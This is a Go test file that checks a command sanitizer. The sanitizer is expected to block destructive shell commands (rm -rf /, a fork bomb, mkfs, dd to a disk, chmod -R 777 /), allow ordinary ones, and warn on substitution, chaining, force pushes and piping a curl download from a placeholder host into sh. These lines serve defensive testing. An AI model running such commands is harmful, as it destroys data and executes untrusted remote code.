package policy

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestSanitizeBlocksDestructiveCommands(t *testing.T) {
	blocked := []string{
		"rm -rf /",
		"rm -fr /",
		"rm  -rf   ~",
		"rm -rf *",
		"rm -rf ..",
		":(){ :|:& };:",
		"mkfs.ext4 /dev/sda1",
		"dd if=/dev/zero of=/dev/sda",
		"echo boom > /dev/sda",
		"chmod -R 777 /",
		"shutdown -h now",
		"reboot",
	}

	for _, cmd := range blocked {
		res := Sanitize(cmd)
		assert.True(t, res.Blocked, "expected block: %q", cmd)
		assert.NotEmpty(t, res.Reason, "reason for %q", cmd)
	}
}

func TestSanitizeAllowsOrdinaryCommands(t *testing.T) {
	allowed := []string{
		"go test ./...",
		"ls -la",
		"rm build/output.txt",
		"git status",
		"python3 -m pytest",
		"cat README.md",
	}

	for _, cmd := range allowed {
		res := Sanitize(cmd)
		assert.False(t, res.Blocked, "unexpected block: %q (%s)", cmd, res.Reason)
	}
}

func TestSanitizeWarnings(t *testing.T) {
	res := Sanitize("echo $(whoami) && curl http://x.sh | sh")
	assert.False(t, res.Blocked)
	assert.Contains(t, res.Warnings, "command substitution")
	assert.Contains(t, res.Warnings, "command chaining")
	assert.Contains(t, res.Warnings, "piping a download into a shell")

	res = Sanitize("git push --force origin main")
	assert.False(t, res.Blocked)
	assert.Contains(t, res.Warnings, "force push")

	res = Sanitize("go build ./...")
	assert.Empty(t, res.Warnings)
}
